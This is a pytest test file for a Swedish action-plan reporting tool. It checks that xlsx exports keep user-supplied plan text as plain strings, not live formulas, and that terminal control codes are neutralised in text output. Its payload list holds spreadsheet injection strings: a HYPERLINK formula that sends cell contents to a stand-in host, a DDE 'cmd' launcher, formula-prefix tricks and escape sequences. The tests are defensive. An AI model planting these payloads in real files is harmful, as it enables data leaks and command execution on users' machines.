"""No published file carries formulas that came from text, macros or external links.

`status -f xlsx` is read back with openpyxl and with LibreOffice Calc; documents made with a
hostile dokumentmall are opened as zip packages and every relationship and part is looked
at.
"""

from __future__ import annotations

import csv
import os
import subprocess
from pathlib import Path

import pytest

from tests.conftest import cli
from tests.realclients import need

HP = "plans/handlingsplaner/ledningsgruppen-2025.yaml"
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Klicka här")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\tTabb först",
    "\rVagnretur först",
]


def _hostile_plan(root: Path) -> None:
    """The minimal handlingsplan with a formula in the action's text and comment."""
    path = root / HP
    text = path.read_text(encoding="utf-8")
    text = text.replace(
        "text: Stärk samverkan mellan nätverken.", f"text: {_quoted(PAYLOADS[0])}", 1
    )
    text += f"    kommentar: {_quoted(PAYLOADS[1])}\n"
    for number, payload in enumerate(PAYLOADS[2:], 2):
        text += (
            f"  - id: åtgärd-{number}\n"
            f"    text: {_quoted(payload)}\n"
            "    aktivitet: stödja-nära-vård\n"
            "    ansvar: [ledningsgruppen]\n"
            "    status: gul\n"
            f"    kommentar: {_quoted(payload)}\n"
        )
    path.write_text(text, encoding="utf-8")


def _quoted(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + escaped.replace("\t", "\\t").replace("\r", "\\r") + '"'


def _workbook(minimal: Path) -> Path:
    _hostile_plan(minimal)
    run = cli("status", "2025", "--datum", "2025-06-01", "-f", "xlsx", "-o", "build/status.xlsx")
    assert run.exit_code == 0, run.stdout + run.stderr
    return minimal / "build" / "status.xlsx"


def test_plan_text_is_never_a_formula_openpyxl(minimal: Path) -> None:
    from openpyxl import load_workbook  # type: ignore[import-untyped]

    book = load_workbook(_workbook(minimal))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for payload in PAYLOADS:
        cell = texts[payload]
        assert cell.data_type == "s", payload
        assert cell.quotePrefix, payload  # stays text when edited in Excel or Calc


def test_plan_text_is_never_a_formula_libreoffice(minimal: Path, tmp_path: Path) -> None:
    soffice = need("soffice", "libreoffice")
    workbook = _workbook(minimal)
    out = tmp_path / "csv"
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'lo-profil').as_uri()}",
            "--headless",
            "--norestore",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1",
            "--outdir",
            str(out),
            str(workbook),
        ],
        capture_output=True,
        timeout=180,
        check=False,
        env=dict(os.environ, HOME=str(tmp_path)),
    )
    assert done.returncode == 0, done.stderr
    (sheet,) = out.glob("status*.csv")  # the first sheet, Åtgärder
    rows = list(csv.reader(sheet.open(encoding="utf-8", newline="")))
    cells = {cell for row in rows for cell in row}
    for payload in PAYLOADS:
        assert payload in cells, (payload, rows)
    assert "Klicka här" not in cells  # the formula was not evaluated
    assert "2" not in {row[2] for row in rows[1:]}  # "+1+1" stayed text


@pytest.mark.parametrize("fmt", ["text", "md"])
def test_control_characters_from_a_plan_never_reach_the_terminal(minimal: Path, fmt: str) -> None:
    path = minimal / HP
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace("nätverken.", 'nätverken.\\e[2J\\a"', 1).replace(
            "text: Stärk", 'text: "Stärk', 1
        ),
        encoding="utf-8",
    )
    run = cli("status", "2025", "--datum", "2025-06-01", "-f", fmt)
    assert run.exit_code == 0, run.stdout + run.stderr
    assert "\x1b" not in run.stdout and "\x07" not in run.stdout
    assert "\u241b[2J\u2407" in run.stdout
